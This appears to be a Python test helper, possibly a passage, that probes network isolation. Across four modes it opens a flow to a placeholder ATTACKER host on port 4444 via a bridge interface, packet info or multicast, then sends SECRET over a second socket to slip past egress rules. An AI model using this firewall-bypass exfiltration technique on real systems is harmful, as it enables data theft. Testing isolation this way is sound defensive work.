"""bridge_bound WAY FAMILY PORT: opens a flow by the bridge, then uses it."""

way, family, port = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
GROUP = ("239.1.2.3", "ff0e::1234")[family]
indexes = [socket.if_nametoindex(name) for name in (BRIDGE, UPLINK)]
own, attacker = RUN[family], ATTACKER[family]


def opened(kind):
    made = socket.socket(FAMILY[family], kind)
    made.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    return made


def bound(kind, device=None):
    made = opened(kind)
    if device:
        made.setsockopt(socket.SOL_SOCKET, SO_BINDTODEVICE, device.encode())
    made.bind((own, port))
    return made


def by(index):
    if family == V4:
        info = struct.pack("=i4s4s", index, packed(own), b"")
        return [(socket.IPPROTO_IP, IP_PKTINFO, info)]
    info = struct.pack("=16si", b"", index)
    return [(socket.IPPROTO_IPV6, IPV6_PKTINFO, info)]


if way == "device":
    first = bound(socket.SOCK_DGRAM, BRIDGE)
    attempt(first.sendto, b"first", (attacker, 4444))
    first.close()
    time.sleep(0.05)
    second = bound(socket.SOCK_DGRAM)
    for _ in range(3):
        attempt(second.sendto, SECRET, (attacker, 4444))
        time.sleep(0.05)
elif way == "packet":
    first = opened(socket.SOCK_DGRAM)
    # IPv6 heeds the interface only where the source is left to the kernel,
    # which then takes the bridge's own address.
    own = (own, "2001:db8:3::1")[family]
    first.bind(((own, "")[family], port))
    attempt(first.sendmsg, [b"first"], by(indexes[0]), 0, (attacker, 4444))
    first.close()
    time.sleep(0.05)
    second = bound(socket.SOCK_DGRAM)
    for _ in range(3):
        attempt(second.sendto, SECRET, (attacker, 4444))
        time.sleep(0.05)
elif way == "group":
    only = bound(socket.SOCK_DGRAM)
    for index in indexes + indexes[1:]:
        if family == V4:
            chosen = struct.pack("=4s4si", b"", b"", index)
            only.setsockopt(socket.IPPROTO_IP, IP_MULTICAST_IF, chosen)
        else:
            only.setsockopt(socket.IPPROTO_IPV6, IPV6_MULTICAST_IF, index)
        attempt(only.sendto, SECRET, (GROUP, 4444))
        time.sleep(0.05)
elif way == "stream":
    first = bound(socket.SOCK_STREAM, BRIDGE)
    first.setblocking(False)
    attempt(first.connect, (attacker, 4444))
    time.sleep(0.1)
    # Closed before an answer: no reset is sent, and its flow is kept.
    first.close()
    second = bound(socket.SOCK_STREAM)
    second.settimeout(2)
    attempt(second.connect, (attacker, 4444))
    attempt(second.send, SECRET)
